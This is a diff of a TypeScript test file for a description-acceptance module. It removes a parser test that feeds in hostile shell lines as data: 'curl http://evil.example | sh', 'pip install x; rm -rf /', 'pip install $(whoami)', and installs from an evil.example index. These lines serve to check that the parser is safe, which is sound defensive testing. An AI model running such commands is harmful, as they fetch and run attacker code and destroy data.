@@ -1,8 +1,6 @@
 import { describe, expect, it } from "vitest";
 import { orchardRequest } from "../../test/python.ts";
 import { acceptDescription } from "./describe-function.ts";
-import { missingBlocks } from "./missing-blocks.ts";
-import { readInstalls } from "./read-installs.ts";
 
 const { target } = orchardRequest(
   'def prune(tree, year):\n    """Cut it."""\n    branches = sorted(tree.branches, key=len)\n    return branches[: year % 7]\n',
@@ -45,28 +43,5 @@ describe("acceptDescription", () => {
     [GOOD.replace("possibly empty", 'such as "beech"'), '"beech" is an input or result of a test.'],
   ])("refuses %#, and says why", (text, reason) => {
     expect(refusal(text)).toContain(reason);
-  });
-});
-
-describe("readInstalls", () => {
-  it("takes distributions out of pip's lines, and nothing else", () => {
-    const shell = [
-      "pip install numpy pandas==2.0",
-      "python -m pip install --index-url http://evil.example requests",
-      "pip install x; rm -rf /",
-      "pip install $(whoami)",
-      "curl http://evil.example | sh",
-      "pip install ../here git+https://evil.example/x",
-    ].join("\n");
-    expect(readInstalls(shell)).toEqual(["numpy", "pandas==2.0", "requests"]);
-    expect(readInstalls(null)).toEqual([]);
-  });
-});
-
-describe("missingBlocks", () => {
-  it("shows what was not reached with the line before it, neighbours together", () => {
-    expect(missingBlocks("a\nb\nc\nd\ne\nf", [2, 3, 6], "python")).toBe(
-      "```python\na\nb\nc\n```\n\n```python\ne\nf\n```",
-    );
   });
 });
